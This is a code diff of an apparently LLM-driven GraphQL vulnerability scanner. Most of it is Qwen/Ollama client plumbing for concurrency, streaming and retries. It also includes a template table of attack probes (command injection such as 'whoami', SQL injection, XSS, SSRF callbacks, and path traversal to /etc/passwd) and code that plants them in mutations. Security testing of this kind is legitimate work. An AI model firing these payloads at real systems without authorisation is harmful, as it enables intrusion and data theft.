+        if cache is not None:
+            self.cache = cache
+        if budget is not None:
+            self.usage.budget = budget
+        if ollama_urls:
+            self.ollama_pool.set_backends(ollama_urls, backend_concurrency)
+        elif backend_concurrency:
+            self.ollama_pool.set_concurrency(backend_concurrency)
+        if keep_alive is not None:
+            self.keep_alive = keep_alive
+
+    @staticmethod
+    def is_qwen(model: str) -> bool:
+        """是否为 Qwen 系列模型（qwen, qwen-turbo, qwen-plus, qwen-max 等）"""
+        return model.lower().startswith('qwen')
+
+    def backend_name(self, model: str) -> str:
+        return 'Qwen API' if self.is_qwen(model) else 'Ollama'
+
+    def _get_executor(self):
+        import concurrent.futures
+
+        with self._lock:
+            if self._executor is None:
+                self._executor = concurrent.futures.ThreadPoolExecutor(
+                    max_workers=max(1, self.max_workers), thread_name_prefix='llm')
+            return self._executor
+
+    def _get_stream_executor(self):
+        """流式任务专用线程池：长时间占用的流式消费不挤占 complete() 的工作线程"""
+        import concurrent.futures
+
+        with self._lock:
+            if self._stream_executor is None:
+                self._stream_executor = concurrent.futures.ThreadPoolExecutor(
+                    max_workers=max(1, self.max_workers), thread_name_prefix='llm-stream')
+            return self._stream_executor
+
+    def _get_session(self) -> requests.Session:
+        with self._lock:
+            if self._session is None:
+                from requests.adapters import HTTPAdapter
+
+                self._session = requests.Session()
+                adapter = HTTPAdapter(pool_connections=max(4, len(self.ollama_pool.backends)),
+                                      pool_maxsize=max(1, self.max_workers) * 2)
+                self._session.mount('http://', adapter)
+                self._session.mount('https://', adapter)
+            return self._session
+
+    @staticmethod
+    def _qwen_options(response_format: str = None) -> dict:
+        return {'response_format': {'type': 'json_object'}} if response_format == 'json' else {}
+
+    def _call_qwen(self, prompt: str, model: str, api_key: str, timeout: int, usage: dict,
+                   response_format: str = None) -> str:
+        from dashscope import Generation
 
+        # 如果 model 只是 'qwen'，默认使用 qwen-turbo
+        actual_model = 'qwen-turbo' if model.lower() == 'qwen' else model
         response = Generation.call(
             model=actual_model,
             prompt=prompt,
-            result_format='text'
+            result_format='text',
+            api_key=api_key,
+            request_timeout=timeout,
+            **self._qwen_options(response_format)
         )
 
         if response.status_code == 200:
+            self._qwen_usage(response, usage)
             return response.output.text
-        else:
-            raise Exception(f"API 错误: {response.code} - {response.message}")
+        raise RuntimeError(f"API 错误: {response.code} - {response.message}")
+
+    @staticmethod
+    def _qwen_usage(response, usage: dict):
+        """从 DashScope 响应读取 token 用量（流式响应中为累计值）"""
+        response_usage = getattr(response, 'usage', None)
+        if response_usage:
+            usage['prompt_tokens'] = getattr(response_usage, 'input_tokens', 0) or 0
+            usage['completion_tokens'] = getattr(response_usage, 'output_tokens', 0) or 0
+
+    @staticmethod
+    def _ollama_usage(data: dict, usage: dict):
+        if 'prompt_eval_count' in data or 'eval_count' in data:
+            usage['prompt_tokens'] = data.get('prompt_eval_count', 0)
+            usage['completion_tokens'] = data.get('eval_count', 0)
+
+    def _ollama_request(self, prompt: str, model: str, stream: bool, response_format: str = None) -> dict:
+        request = {"model": model, "prompt": prompt, "stream": stream, "keep_alive": self.keep_alive}
+        if response_format == 'json':
+            request["format"] = "json"
+        return request
+
+    def _call_ollama(self, prompt: str, model: str, api_key: str, timeout: int, usage: dict,
+                     response_format: str = None) -> str:
+        # requests 的 timeout 只限制单次读取：这里改用流式接口逐块读取，
+        # 以便在总时长超限或客户端取消时主动断开连接、释放工作线程
+        deadline = time.time() + timeout
+        chunks = []
+        stream = self._stream_ollama(prompt, model, api_key, timeout, usage, response_format)
+        try:
+            for chunk in stream:
+                if self._cancelled.is_set():
+                    raise TimeoutError('LLM 调用已取消')
+                if time.time() > deadline:
+                    raise TimeoutError(f'LLM 调用超时（>{timeout}秒）')
+                chunks.append(chunk)
+        finally:
+            stream.close()
+        return ''.join(chunks)
+
+    def _stream_qwen(self, prompt: str, model: str, api_key: str, timeout: int, usage: dict,
+                     response_format: str = None):
+        from dashscope import Generation
 
-    try:
-        log_info(f"正在调用 Qwen API ({model}) 生成 Payload...（超时: {timeout}秒）")
+        actual_model = 'qwen-turbo' if model.lower() == 'qwen' else model
+        responses = Generation.call(
+            model=actual_model,
+            prompt=prompt,
+            result_format='text',
+            api_key=api_key,
+            stream=True,
+            incremental_output=True,
+            request_timeout=timeout,
+            **self._qwen_options(response_format)
+        )
+        for response in responses:
+            if response.status_code != 200:
+                raise RuntimeError(f"API 错误: {response.code} - {response.message}")
+            self._qwen_usage(response, usage)
+            if response.output and response.output.text:
+                yield response.output.text
+
+    def _stream_ollama(self, prompt: str, model: str, api_key: str, timeout: int, usage: dict,
+                       response_format: str = None):
+        backend = self.ollama_pool.acquire(timeout)
+        failed = False
+        try:
+            response = self._get_session().post(
+                f"{backend['url']}/api/generate",
+                json=self._ollama_request(prompt, model, True, response_format),
+                timeout=timeout,
+                stream=True
+            )
+        except requests.exceptions.ConnectionError:
+            failed = True
+            raise
+        finally:
+            if failed:
+                self.ollama_pool.release(backend, failed=True)
+        try:
+            yield from self._iter_ollama_stream(response, usage, backend)
+        finally:
+            self.ollama_pool.release(backend)
+
+    def _iter_ollama_stream(self, response, usage: dict, backend: dict):
+        with response:
+            if response.status_code != 200:
+                raise RuntimeError(f"Ollama API 调用失败: {response.status_code} ({backend['url']})")
+            for line in response.iter_lines():
+                if not line:
+                    continue
+                data = json.loads(line)
+                if data.get('error'):
+                    raise RuntimeError(f"Ollama 错误: {data['error']}")
+                if data.get('response'):
+                    yield data['response']
+                if data.get('done'):
+                    self._ollama_usage(data, usage)
+                    break
+
+    def warm_up(self, model: str):
+        """探测所有 Ollama 后端并预加载模型（空提示词 + keep_alive），避免首次调用冷启动"""
+        if self.is_qwen(model):
+            return
+        backends = self.ollama_pool.backends
+        healthy = self.ollama_pool.check_all(model)
+        log_info(f"Ollama 后端: {healthy}/{len(backends)} 在线 ({', '.join(b['url'] for b in backends)})")
+
+        def _load(backend):
+            try:
+                self._get_session().post(f"{backend['url']}/api/generate",
+                                         json={"model": model, "keep_alive": self.keep_alive},
+                                         timeout=self.timeout)
+            except requests.RequestException:
+                pass
 
-        # 使用线程池执行，带超时控制
-        with concurrent.futures.ThreadPoolExecutor(max_workers=1) as executor:
-            future = executor.submit(_call_api)
+        for backend in backends:
+            if backend['healthy']:
+                self.submit(_load, backend)
+
+    def _resolve_api_key(self, model: str, api_key: str = None) -> Optional[str]:
+        if not self.is_qwen(model):
+            return api_key
+        api_key = api_key or os.environ.get('DASHSCOPE_API_KEY')
+        if not api_key and not self._missing_key_reported:
+            self._missing_key_reported = True
+            log_error("请设置 DASHSCOPE_API_KEY 环境变量或使用 --api-key 参数")
+        return api_key
+
+    def _record_usage(self, call_site: str, model: str, prompt: str, output: str, usage: dict,
+                      seconds: float, failed: bool = False):
+        self.usage.record(call_site, model,
+                          usage.get('prompt_tokens') or estimate_tokens(prompt),
+                          usage.get('completion_tokens') or (estimate_tokens(output) if output else 0),
+                          seconds, failed)
+
+    def _submit(self, prompt: str, model: str, api_key: str, timeout: int, call_site: str,
+                response_format: str = None):
+        """提交一次调用，返回 (future, 开始时间记录)"""
+        backend = self._call_qwen if self.is_qwen(model) else self._call_ollama
+        started = {'submitted': time.time()}
+        round_ = self.usage.round
+
+        def _run():
+            self.usage.round = round_
+            started['at'] = time.time()
+            usage = {}
             try:
-                result = future.result(timeout=timeout)
-                return result
-            except concurrent.futures.TimeoutError:
-                log_error(f"⏰ Qwen API 调用超时（>{timeout}秒），请检查网络连接或 API 状态")
-                return None
+                output = backend(prompt, model, api_key, timeout, usage, response_format)
+            except Exception:
+                self._record_usage(call_site, model, prompt, '', usage, time.time() - started['at'], failed=True)
+                raise
+            self._record_usage(call_site, model, prompt, output, usage, time.time() - started['at'])
+            return output
+
+        future = self._get_executor().submit(_run)
+        with self._lock:
+            self._pending.add(future)
+        future.add_done_callback(self._discard_pending)
+        return future, started
+
+    def _discard_pending(self, future):
+        with self._lock:
+            self._pending.discard(future)
+
+    def _wait(self, future, started: dict, timeout: int):
+        """
+        等待调用完成
 
-    except ImportError:
-        log_error("请安装 dashscope: pip install dashscope")
-        return None
-    except Exception as e:
-        log_error(f"Qwen API 调用异常: {e}")
+        排队和执行分别受 timeout 限制：排队超时或取消时撤回尚未开始的任务；
+        已开始的任务由后端请求自身的超时（Ollama 分块读取 / DashScope request_timeout）
+        结束，这里等待它真正退出，只有超出宽限时间仍未返回才放弃等待。
+
+        Raises:
+            TimeoutError: 排队超时、执行超时或客户端已取消
+        """
+        import concurrent.futures
+
+        while True:
+            done, _ = concurrent.futures.wait([future], timeout=0.2)
+            if done:
+                return future.result()
+            now = time.time()
+            if 'at' not in started:
+                if self._cancelled.is_set() and future.cancel():
+                    raise TimeoutError('LLM 调用已取消')
+                if now - started['submitted'] > timeout and future.cancel():
+                    raise TimeoutError(f'LLM 调用排队超时（>{timeout}秒）')
+            elif now - started['at'] > timeout + self.HARD_TIMEOUT_GRACE:
+                raise TimeoutError(f'LLM 调用超时（>{timeout}秒，工作线程仍未返回）')
+
+    def _collect(self, future, started: dict, prompt: str, model: str, api_key: str,
+                 timeout: int, call_site: str, response_format: str = None) -> Optional[str]:
+        """等待结果，失败时按退避策略重试；超时不重试"""
+        for attempt in range(self.max_retries + 1):
+            try:
+                return self._wait(future, started, timeout)
+            except (TimeoutError, requests.exceptions.Timeout) as e:
+                if self._cancelled.is_set():
+                    return None
+                if 'at' not in started:
+                    log_warning(f"⏰ {self.backend_name(model)} [{call_site}] {e}：LLM 线程池繁忙，调用未能开始，"
+                                f"将使用回退逻辑（可调大 --llm-concurrency）")
+                else:
+                    log_error(f"⏰ {self.backend_name(model)} [{call_site}] {e}，请检查网络连接或 API 状态")
+                return None
+            except ImportError:
+                log_error("请安装 dashscope: pip install dashscope")
+                return None
+            except Exception as e:
+                if attempt >= self.max_retries or self._cancelled.is_set():
+                    log_error(f"{self.backend_name(model)} [{call_site}] 调用异常: {e}")
+                    if not self.is_qwen(model) and isinstance(e, requests.RequestException):
+                        log_info("请确保 Ollama 正在运行: ollama serve")
+                    return None
+                time.sleep(self.RETRY_BACKOFF * (attempt + 1))
+                future, started = self._submit(prompt, model, api_key, timeout, call_site, response_format)
         return None
 
+    def complete(self, prompt: str, model: str, api_key: str = None, timeout: int = None,
+                 call_site: str = 'generate', response_format: str = None) -> Optional[str]:
+        """
+        执行一次补全
+
+        Args:
+            prompt: 提示词
+            model: 模型名称（qwen* 走 DashScope，其余走 Ollama）
+            api_key: DashScope API Key（缺省读取环境变量）
+            timeout: 超时（秒），缺省使用客户端默认值
+            call_site: 调用点（generate / analyze / fix），用于日志
+            response_format: 为 'json' 时要求后端输出 JSON（Ollama format=json / DashScope json_object）
+
+        Returns:
+            str: 模型输出；失败、超时或已取消时返回 None
+        """
+        return self.complete_many([prompt], model, api_key, timeout, call_site, response_format)[0]
+
+    def complete_many(self, prompts: list, model: str, api_key: str = None, timeout: int = None,
+                      call_site: str = 'generate', response_format: str = None) -> list:
+        """并发执行多个补全（受线程池并发数限制），结果与 prompts 一一对应"""
+        if self._cancelled.is_set():
+            return [None] * len(prompts)
+
+        api_key = self._resolve_api_key(model, api_key)
+        if self.is_qwen(model) and not api_key:
+            return [None] * len(prompts)
+
+        timeout = timeout or self.timeout
+        results = [None] * len(prompts)
+        submitted = {}
+        for i, prompt in enumerate(prompts):
+            cached = self.cache.get(model, prompt, call_site) if self.cache else None
+            if cached is not None:
+                results[i] = cached
+                self.usage.record_cached()
+            elif not self.usage.exhausted():
+                submitted[i] = self._submit(prompt, model, api_key, timeout, call_site, response_format)
+
+        for i, (future, started) in submitted.items():
+            results[i] = self._collect(future, started, prompts[i], model, api_key, timeout, call_site,
+                                       response_format)
+            if results[i] and self.cache:
+                self.cache.put(model, prompts[i], call_site, results[i])
+        return results
+
+    def stream(self, prompt: str, model: str, api_key: str = None, timeout: int = None,
+               call_site: str = 'generate', response_format: str = None):
+        """
+        流式补全：在调用线程中逐块产出模型输出
 
-def call_ollama_api(prompt: str, model: str = "llama3", timeout: int = 120) -> Optional[str]:
-    """调用本地 Ollama API（带超时控制）"""
-    try:
-        log_info(f"正在调用 Ollama ({model}) 生成 Payload...（超时: {timeout}秒）")
+        超时从开始调用时计算，超时或取消时保留已产出的部分；
+        只有在尚未产出任何内容时出错才会重试。完整输出会写入响应缓存。
 
-        response = requests.post(
-            "http://localhost:11434/api/generate",
-            json={
-                "model": model,
-                "prompt": prompt,
-                "stream": False
-            },
-            timeout=timeout
-        )
+        Yields:
+            str: 输出文本片段（缓存命中时一次性产出完整输出）
+        """
+        if self._cancelled.is_set():
+            return
+
+        api_key = self._resolve_api_key(model, api_key)
+        if self.is_qwen(model) and not api_key:
+            return
+
+        cached = self.cache.get(model, prompt, call_site) if self.cache else None
+        if cached is not None:
+            self.usage.record_cached()
+            yield cached
+            return
+        if self.usage.exhausted():
+            return
+
+        timeout = timeout or self.timeout
+        backend = self._stream_qwen if self.is_qwen(model) else self._stream_ollama
+        start = time.time()
+        chunks = []
+        usage = {}
+        try:
+            yield from self._stream_attempts(backend, prompt, model, api_key, timeout, call_site, start, chunks,
+                                             usage, response_format)
+        finally:
+            self._record_usage(call_site, model, prompt, ''.join(chunks), usage, time.time() - start,
+                               failed=not chunks)
+
+        if chunks and self.cache:
+            self.cache.put(model, prompt, call_site, ''.join(chunks))
+
+    def _stream_attempts(self, backend, prompt: str, model: str, api_key: str, timeout: int, call_site: str,
+                         start: float, chunks: list, usage: dict, response_format: str = None):
+        """流式调用的重试循环（产出的片段同时追加到 chunks）"""
+        for attempt in range(self.max_retries + 1):
+            try:
+                for chunk in backend(prompt, model, api_key, timeout, usage, response_format):
+                    if self._cancelled.is_set():
+                        return
+                    chunks.append(chunk)
+                    yield chunk
+                    if time.time() - start > timeout:
+                        log_warning(f"⏰ {self.backend_name(model)} [{call_site}] 流式输出超时（>{timeout}秒），保留已生成的部分")
+                        return
+                break
+            except ImportError:
+                log_error("请安装 dashscope: pip install dashscope")
+                return
+            except requests.exceptions.Timeout:
+                log_error(f"⏰ {self.backend_name(model)} [{call_site}] LLM 调用超时（>{timeout}秒），请检查网络连接或 API 状态")
+                return
+            except Exception as e:
+                if chunks or attempt >= self.max_retries or self._cancelled.is_set():
+                    log_error(f"{self.backend_name(model)} [{call_site}] 调用异常: {e}")
+                    if not self.is_qwen(model) and isinstance(e, requests.RequestException):
+                        log_info("请确保 Ollama 正在运行: ollama serve")
+                    return
+                time.sleep(self.RETRY_BACKOFF * (attempt + 1))
+
+    def submit(self, fn, *args, **kwargs):
+        """
+        在流式线程池中执行任意任务（如消费流式输出），任务继承调用线程的轮次
 
-        if response.status_code == 200:
-            return response.json().get('response', '')
-        else:
-            log_error(f"Ollama API 调用失败: {response.status_code}")
-            return None
+        流式任务在整个生成期间占用线程，因此与 complete() 使用的线程池分开，
+        避免分析 / 修复调用排队超时。
+        """
+        round_ = self.usage.round
 
-    except requests.RequestException as e:
-        log_error(f"Ollama API 调用异常: {e}")
-        log_info("请确保 Ollama 正在运行: ollama serve")
-        return None
+        def _run():
+            self.usage.round = round_
+            return fn(*args, **kwargs)
+
+        return self._get_stream_executor().submit(_run)
+
+    def cancel(self) -> int:
+        """
+        取消调用：撤回排队中的任务，后续调用直接返回 None
 
+        进行中的 Ollama 调用在读取下一块响应时退出，DashScope 调用在 request_timeout 后退出。
 
-def generate_payloads_with_llm(mutations: list, oast_domain: str, model: str, api_key: str = None, iteration: int = 1, previous_attempts: list = None, queries: list = None, llm_timeout: int = 60) -> Optional[str]:
-    """使用 LLM 生成漏洞 Payload（支持智能迭代）"""
+        Returns:
+            int: 取消时仍在运行、尚未退出的调用数
+        """
+        self._cancelled.set()
+        with self._lock:
+            pending = list(self._pending)
+        running = sum(1 for future in pending if not future.cancel())
+        if running:
+            log_info(f"{running} 个进行中的 LLM 调用将在当前请求结束或超时后退出")
+        return running
+
+    def shutdown(self):
+        """释放线程池和连接池"""
+        with self._lock:
+            executors = [self._executor, self._stream_executor]
+            self._executor = self._stream_executor = None
+            session, self._session = self._session, None
+        for executor in executors:
+            if executor:
+                executor.shutdown(wait=False)
+        if session:
+            session.close()
+
+
+# 全局 LLM 客户端实例
+llm_client = LLMClient()
+
+
+def generate_payloads_with_llm(mutations: list, oast_domain: str, model: str, api_key: str = None, iteration: int = 1, previous_attempts: list = None, queries: list = None, llm_timeout: int = 60,
+                               coverage_hint: str = None, output_mode: str = 'text') -> Optional[str]:
+    """使用 LLM 生成漏洞 Payload（支持智能迭代），返回模型原始输出"""
     mutations_text = format_mutations_for_llm(mutations, queries)
-    prompt = build_llm_prompt(mutations_text, oast_domain, iteration, previous_attempts)
-
-    # 检查是否为 Qwen 系列模型（qwen, qwen-turbo, qwen-plus, qwen-max 等）
-    if model.lower().startswith('qwen'):
-        if not api_key:
-            api_key = os.environ.get('DASHSCOPE_API_KEY')
-            if not api_key:
-                log_error("请设置 DASHSCOPE_API_KEY 环境变量或使用 --api-key 参数")
-                return None
-        return call_qwen_api(prompt, api_key, model, timeout=llm_timeout)
-    else:
-        return call_ollama_api(prompt, model, timeout=llm_timeout)
+    prompt = build_llm_prompt(mutations_text, oast_domain, iteration, previous_attempts, coverage_hint, output_mode)
 
+    log_info(f"正在调用 {llm_client.backend_name(model)} ({model}) 生成 Payload...（超时: {llm_timeout}秒）")
+    return llm_client.complete(prompt, model, api_key, timeout=llm_timeout, call_site='generate',
+                               response_format='json' if output_mode == 'json' else None)
 
-def analyze_response_with_llm(payload: str, status_code: int, response_text: str, response_time: float, model: str, api_key: str = None) -> str:
-    """让 LLM 分析响应，判断是否存在漏洞特征"""
 
-    # 截取响应内容（避免太长）
-    response_snippet = response_text[:1000] if response_text else "空响应"
+def generate_payloads_sharded(shards: list, oast_domain: str, model: str, api_key: str = None, iteration: int = 1,
+                              previous_attempts: list = None, llm_timeout: int = 60,
+                              coverage_hint: str = None, output_mode: str = 'text') -> Optional[list]:
+    """
+    在各 Schema 分片上并发生成 Payload，并合并解析结果
+
+    并发度由 llm_client 的线程池决定，生成耗时取决于最慢的分片，
+    而不再随 Schema 规模线性增长。分片带有 coverage_hint 时使用分片自己的覆盖提示，
+    否则使用参数 coverage_hint。
+
+    Returns:
+        list: 合并（按规范化指纹去重）后的 Payload 列表；所有分片都生成失败时返回 None
+    """
+    prompts = [
+        build_llm_prompt(format_mutations_for_llm(shard['mutations'], shard['queries']),
+                         oast_domain, iteration, previous_attempts, shard.get('coverage_hint', coverage_hint),
+                         output_mode)
+        for shard in shards
+    ]
 
-    analysis_prompt = f"""你是一名漏洞分析专家。请分析以下 GraphQL 测试的响应结果：
+    if len(shards) > 1:
+        log_info(f"Schema 切分为 {len(shards)} 个分片，并发生成 Payload（并发数: {llm_client.max_workers}）")
+    log_info(f"正在调用 {llm_client.backend_name(model)} ({model}) 生成 Payload...（超时: {llm_timeout}秒）")
+    responses = llm_client.complete_many(prompts, model, api_key, timeout=llm_timeout, call_site='generate',
+                                         response_format='json' if output_mode == 'json' else None)
 
-# 测试 Payload
-{payload}
+    if not any(responses):
+        return None
 
-# 响应信息
-- HTTP 状态码: {status_code}
-- 响应时间: {response_time:.2f} 秒
-- 响应内容:
-```
-{response_snippet}
-```
+    payloads = []
+    seen = set()
+    for shard_index, llm_response in enumerate(responses, 1):
+        if not llm_response:
+            log_warning(f"分片 {shard_index}/{len(shards)} 生成失败")
+            continue
+        for payload_info in parse_llm_payloads(llm_response, output_mode):
+            fingerprint = payload_fingerprint(payload_info['payload'], payload_info.get('variables'))
+            if fingerprint not in seen:
+                seen.add(fingerprint)
+                payloads.append(payload_info)
+    return payloads
 
-# 分析任务
-请简短回答（1-2句话）：
-1. 这个响应中是否有漏洞存在的迹象？
-2. 如果没有，可能的原因是什么（被过滤、参数错误、不存在漏洞等）？
-3. 下一步应该如何调整 Payload？
 
-直接输出分析结论，不要啰嗦：
-"""
+class PayloadStream:
+    """
+    流式生成的 Payload 序列
 
-    # 调用 LLM 分析
-    if model.lower().startswith('qwen'):
-        if not api_key:
-            api_key = os.environ.get('DASHSCOPE_API_KEY')
-        if api_key:
-            try:
-                import dashscope
-                from dashscope import Generation
-                dashscope.api_key = api_key
-
-                response = Generation.call(
-                    model=model if model != 'qwen' else 'qwen-turbo',
-                    prompt=analysis_prompt,
-                    result_format='text'
-                )
+    每个分片的提示词在 LLM 线程池中流式调用，输出交给增量解析器
+    （json 模式为 IncrementalJSONPayloadParser，text 模式为 IncrementalPayloadParser），
+    每个 Payload 一解析完成就放入队列；迭代本对象即可在模型仍在生成时开始测试。
+    跨分片按规范化指纹去重。
+    """
 
-                if response.status_code == 200:
-                    return response.output.text.strip()
-            except:
-                pass
-    else:
+    _DONE = object()
+
+    def __init__(self, prompts: list, model: str, api_key: str = None, llm_timeout: int = 60,
+                 output_mode: str = 'text'):
+        self.total = len(prompts)
+        self.output_mode = output_mode
+        self.failed = 0
+        self.received = 0
+        self._queue = queue.Queue()
+        self._seen = set()
+        self._lock = threading.Lock()
+        for index, prompt in enumerate(prompts, 1):
+            llm_client.submit(self._pump, index, prompt, model, api_key, llm_timeout)
+
+    def _emit(self, payload_info: dict):
+        fingerprint = payload_fingerprint(payload_info['payload'], payload_info.get('variables'))
+        with self._lock:
+            if fingerprint in self._seen:
+                return
+            self._seen.add(fingerprint)
+            self.received += 1
+        self._queue.put(payload_info)
+
+    def _pump(self, index: int, prompt: str, model: str, api_key: str, llm_timeout: int):
+        json_mode = self.output_mode == 'json'
+        parser = IncrementalJSONPayloadParser() if json_mode else IncrementalPayloadParser()
+        produced = False
         try:
-            response = requests.post(
-                "http://localhost:11434/api/generate",
-                json={"model": model, "prompt": analysis_prompt, "stream": False},
-                timeout=60
-            )
-            if response.status_code == 200:
-                return response.json().get('response', '').strip()
-        except:
-            pass
+            for chunk in llm_client.stream(prompt, model, api_key, timeout=llm_timeout, call_site='generate',
+                                           response_format='json' if json_mode else None):
+                produced = True
+                for payload_info in parser.feed(chunk):
+                    self._emit(payload_info)
+            for payload_info in parser.close():
+                self._emit(payload_info)
+        except Exception as e:
+            log_error(f"分片 {index}/{self.total} 解析异常: {e}")
+        finally:
+            if not produced:
+                with self._lock:
+                    self.failed += 1
+                if self.total > 1:
+                    log_warning(f"分片 {index}/{self.total} 生成失败")
+            self._queue.put(self._DONE)
+
+    def __iter__(self):
+        finished = 0
+        while finished < self.total:
+            item = self._queue.get()
+            if item is self._DONE:
+                finished += 1
+            else:
+                yield item
+
+    @property
+    def all_failed(self) -> bool:
+        return self.failed == self.total
+
+
+def stream_payloads_sharded(shards: list, oast_domain: str, model: str, api_key: str = None, iteration: int = 1,
+                            previous_attempts: list = None, llm_timeout: int = 60,
+                            coverage_hint: str = None, output_mode: str = 'text') -> PayloadStream:
+    """generate_payloads_sharded 的流式版本：返回边生成边产出 Payload 的 PayloadStream"""
+    prompts = [
+        build_llm_prompt(format_mutations_for_llm(shard['mutations'], shard['queries']),
+                         oast_domain, iteration, previous_attempts, shard.get('coverage_hint', coverage_hint),
+                         output_mode)
+        for shard in shards
+    ]
+
+    if len(shards) > 1:
+        log_info(f"Schema 切分为 {len(shards)} 个分片，并发流式生成 Payload（并发数: {llm_client.max_workers}）")
+    log_info(f"正在流式调用 {llm_client.backend_name(model)} ({model}) 生成 Payload...（超时: {llm_timeout}秒）")
+    return PayloadStream(prompts, model, api_key, llm_timeout, output_mode)
+
+
+# 确定性模板：风险类型 -> (Payload 标签, 参数值)，{oast} 替换为 OAST 域名
+DETERMINISTIC_PAYLOAD_TEMPLATES = {
+    'rce': [('RCE', 'whoami'), ('RCE', 'sleep 5')],
+    'ssrf': [('SSRF', 'http://{oast}/')],
+    'sqli': [('SQLi', "1' OR '1'='1")],
+    'xss': [('XSS', '<script>alert(1)</script>')],
+    'path_traversal': [('PATH_TRAVERSAL', '../../../../etc/passwd')],
+    'idor': [('IDOR', '2')],
+    'authz_bypass': [('AUTHZ', 'admin')],
+    'dos': [('DOS', '100000')],
+}
+
+# 非目标参数的默认值（按 GraphQL 标量类型）
+DEFAULT_ARG_VALUES = {'Int': '1', 'Float': '1.0', 'Boolean': 'false', 'ID': '"1"', 'String': '"test"'}
+
+
+def render_graphql_value(value: str, type_name: str) -> Optional[str]:
+    """把模板值渲染为对应类型的 GraphQL 字面量；类型不兼容时返回 None"""
+    if type_name in ('Int', 'Float'):
+        return value if re.fullmatch(r'-?\d+(\.\d+)?', value) else None
+    if type_name == 'Boolean':
+        return 'true'
+    return json.dumps(value, ensure_ascii=False)
 
-    # 如果 LLM 调用失败，返回基础分析
+
+def generate_deterministic_payloads(mutations: list, queries: list, oast_domain: str,
+                                    ranking: list = None, limit: int = 40) -> list:
+    """
+    不调用 LLM，按参数风险和模板生成 Payload（LLM 预算用尽或不可用时的回退）
+
+    每个带风险标记的参数生成一组 Payload，其余参数填入类型默认值；
+    返回类型的子字段未知，缺少子选择时由 test_payload 的自动修复补全。
+
+    Returns:
+        list: [{'type': ..., 'payload': ...}, ...]，格式与 parse_payloads 一致
+    """
+    operations = [('mutation', op) for op in mutations or []] + [('query', op) for op in queries or []]
+    if ranking:
+        order = {name: i for i, name in enumerate(ranking)}
+        operations.sort(key=lambda item: order.get(item[1]['name'], len(order)))
+
+    payloads = []
+    for kind, op in operations:
+        for target in op['args']:
+            for risk in target['risks']:
+                for tag, value in DETERMINISTIC_PAYLOAD_TEMPLATES.get(risk, []):
+                    # 参数类型带有 !/[] 修饰，按基础类型渲染（单值可按 GraphQL 输入强制转换为列表）
+                    literal = render_graphql_value(value.format(oast=oast_domain), target['type'].strip('[]!'))
+                    if literal is None:
+                        continue
+                    args = []
+                    for arg in op['args']:
+                        base_type = arg['type'].strip('[]!')
+                        if arg is target:
+                            args.append(f"{arg['name']}: {literal}")
+                        elif base_type in DEFAULT_ARG_VALUES:
+                            args.append(f"{arg['name']}: {DEFAULT_ARG_VALUES[base_type]}")
+                    payloads.append({'type': tag, 'payload': f"{kind} {{ {op['name']}({', '.join(args)}) }}"})
+                    if len(payloads) >= limit:
+                        return payloads
+    return payloads
+
+
+def basic_response_analysis(status_code: int, response_text: str, response_time: float) -> str:
+    """不调用 LLM 的基础响应分析（LLM 不可用时的回退）"""
     if status_code >= 500:
         return "服务器错误，可能触发了异常或防护机制"
     elif status_code == 200:
@@ -1289,79 +2405,364 @@ def analyze_response_with_llm(payload: str, status_code: int, response_text: str
         return f"HTTP {status_code}，Payload 可能格式不正确或被拒绝"
 
 
-# =============================================================================
-# 漏洞验证
-# =============================================================================
+ANALYSIS_BATCH_SIZE = 8  # 每个分析提示词包含的响应数
 
-def parse_payloads(llm_response: str) -> list:
-    """解析 LLM 返回的 Payload"""
-    payloads = []
-    current_type = None
-    current_payload = []
 
-    for line in llm_response.split('\n'):
-        line = line.strip()
-        if not line:
-            if current_payload:
-                payloads.append({
-                    'type': current_type or 'UNKNOWN',
-                    'payload': '\n'.join(current_payload)
-                })
-                current_payload = []
-            continue
+def build_batch_analysis_prompt(items: list) -> str:
+    """
+    构建批量响应分析提示词
 
-        # 检测漏洞类型标记
-        if line.startswith('[') and ']' in line:
-            if current_payload:
-                payloads.append({
-                    'type': current_type or 'UNKNOWN',
-                    'payload': '\n'.join(current_payload)
-                })
-                current_payload = []
-            current_type = line.split(']')[0].strip('[')
-        elif line.startswith('mutation') or line.startswith('query') or line.startswith('{'):
-            current_payload.append(line)
-        elif current_payload:
-            current_payload.append(line)
-
-    if current_payload:
-        payloads.append({
-            'type': current_type or 'UNKNOWN',
-            'payload': '\n'.join(current_payload)
-        })
+    Args:
+        items: [(id, result), ...]，result 至少包含 type / payload / status_code / response_time / response_text
+    """
+    blocks = []
+    for item_id, result in items:
+        response_text = result.get('response_text') or ''
+        expected = f"\n- 预期漏洞信号: {result['expected_signal']}" if result.get('expected_signal') else ''
+        blocks.append(f"""## [#{item_id}] {result.get('type', 'UNKNOWN')}
+Payload:
+```graphql
+{result['payload']}
+```
+- HTTP 状态码: {result.get('status_code') or 0}
+- 响应时间: {result.get('response_time', 0):.2f} 秒{expected}
+- 响应内容:
+```
+{response_text[:600] if response_text else '空响应'}
+```""")
 
-    return payloads
+    return f"""你是一名漏洞分析专家。请逐条分析以下 {len(items)} 个 GraphQL 测试的响应结果：
 
+{chr(10).join(blocks)}
 
-def verify_ssrf(response_text: str, oast_domain: str) -> bool:
-    """验证 SSRF（需要手动检查 OAST 平台）"""
-    log_info(f"SSRF 验证: 请检查 OAST 平台 ({oast_domain}) 是否有回连")
-    return False  # 需要手动验证
+# 分析任务
+对每一条给出简短结论（1-2句话）：
+1. 这个响应中是否有漏洞存在的迹象？
+2. 如果没有，可能的原因是什么（被过滤、参数错误、不存在漏洞等）？
+3. 下一步应该如何调整 Payload？
+
+只输出 JSON，id 与上面的 [#编号] 对应，不要输出其他内容：
+{{"verdicts": [{{"id": 1, "vulnerable": false, "analysis": "分析结论"}}]}}
+"""
+
+
+def parse_batch_verdicts(llm_response: str) -> dict:
+    """解析批量分析结果，返回 {id: verdict}；无法解析时返回空字典"""
+    if not llm_response:
+        return {}
+
+    start, end = llm_response.find('{'), llm_response.rfind('}')
+    if start == -1 or end <= start:
+        return {}
+    try:
+        data = json.loads(llm_response[start:end + 1])
+    except ValueError:
+        return {}
+
+    verdicts = {}
+    for verdict in data.get('verdicts', []) if isinstance(data, dict) else []:
+        if not isinstance(verdict, dict):
+            continue
+        try:
+            verdicts[int(verdict.get('id'))] = verdict
+        except (TypeError, ValueError):
+            continue
+    return verdicts
 
 
-def verify_rce(response_time: float, response_text: str = None) -> dict:
+def analyze_responses_batch(results: list, model: str, api_key: str = None,
+                            batch_size: int = ANALYSIS_BATCH_SIZE) -> list:
     """
-    多维度验证 RCE 漏洞
+    批量让 LLM 分析一轮的响应
+
